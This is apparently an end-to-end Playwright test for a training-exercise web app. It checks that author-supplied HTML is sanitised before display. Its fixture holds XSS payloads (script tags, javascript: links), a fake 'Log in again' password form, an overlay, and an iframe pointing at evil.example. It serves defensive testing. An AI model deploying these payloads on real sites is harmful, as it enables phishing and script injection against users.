// The HTML is written straight into the database: the sanitiser of the page must be enough.
import type { setResponse } from '#contracts/calls/play/play.ts'
import { expect, test } from '#test/support/journey.ts'
import { orderExercise } from '#test/support/ordered.ts'
import { makeCall } from '#test/support/wire.ts'

const HOSTILE = `
<p style="position: fixed; inset: 0; z-index: 9999; background: url(https://evil.example/x); color: #b02d14; margin-left: -400px">styled</p>
<p id="content" class="overlay">named</p>
<a href="javascript:alert(1)">script link</a> <a href="/library">inner link</a> <a href="https://ward.example/rota">outer link</a>
<a href="mailto:desk@ward.example">mail link</a>
<img alt="no source" src="javascript:alert(1)"><img alt="drawing" src="data:image/svg+xml;base64,PHN2Zz4=">
<img alt="dot" src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==">
<form action="https://evil.example"><input name="password"><button>Log in again</button></form>
<iframe src="https://evil.example"></iframe><object data="https://evil.example"></object>
<script>alert(1)</script><svg><script>alert(1)</script></svg>`

test('authored HTML reaches the page as text, links and pictures only', async ({
  page,
  house,
  customer,
  scenario,
}) => {
  await scenario({ title: 'Worst author', level: 0, teams: false })
  await house.db`
    update scenario_version set content = jsonb_set(content, '{sections,0,events,0,content}', to_jsonb(${HOSTILE}::text)) where title = 'Worst author'`
  const account = await customer({ username: 'quarantine', level: 0, credits: 5 })
  const order = {
    scenario: 'Worst author',
    identifier: 'Worst',
    players: [{ email: 'ada@quarantine.example', team: '-1' }],
  }
  const link = (await orderExercise(house, account, order))('ada@quarantine.example')
  const dialogs: string[] = []
  page.on('dialog', dialog => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  await page.goto(link)
  await page.getByRole('button', { name: 'I agree to NDA' }).click()
  const token = link.split('/').at(-1) ?? ''
  await makeCall<typeof setResponse>(
    house.url,
    'setResponse',
    { id: 't1', response: "I don't need a tutorial" },
    token,
  )
  await page.reload()
  await page.getByTitle('All quiet').click()
  const mail = page.getByRole('article', { name: 'All quiet' })
  await expect(mail.getByText('styled')).toBeVisible()

  await expect(mail.getByText('styled')).toHaveAttribute('style', 'color: #b02d14')
  await expect(mail.getByText('named')).not.toHaveAttribute('class')
  await expect(mail.getByText('named')).not.toHaveAttribute('id')
  await expect(mail.getByRole('link', { name: 'script link' })).toHaveAttribute('href', 'about:blank')
  await expect(mail.getByRole('link', { name: 'inner link' })).toHaveAttribute('href', 'about:blank')
  await expect(mail.getByRole('link', { name: 'outer link' })).toHaveAttribute(
    'href',
    'https://ward.example/rota',
  )
  await expect(mail.getByRole('link', { name: 'outer link' })).toHaveAttribute('rel', 'noopener noreferrer')
  await expect(mail.getByRole('link', { name: 'mail link' })).toHaveAttribute(
    'href',
    'mailto:desk@ward.example',
  )
  await expect(mail.locator('script, iframe, object, form, input, svg script, [onerror]')).toHaveCount(0)
  await expect(mail.getByAltText('no source')).toHaveCount(0)
  await expect(mail.getByAltText('drawing')).toHaveCount(0)
  expect(dialogs).toEqual([])

  await mail.getByRole('button', { name: 'Enlarge picture: dot' }).focus()
  await page.keyboard.press('Enter')
  await expect(page.getByRole('dialog', { name: 'dot' })).toBeVisible()
  await page.keyboard.press('Escape')
  await expect(page.getByRole('dialog')).toBeHidden()
  await expect(mail.getByRole('button', { name: 'Enlarge picture: dot' })).toBeFocused()
})
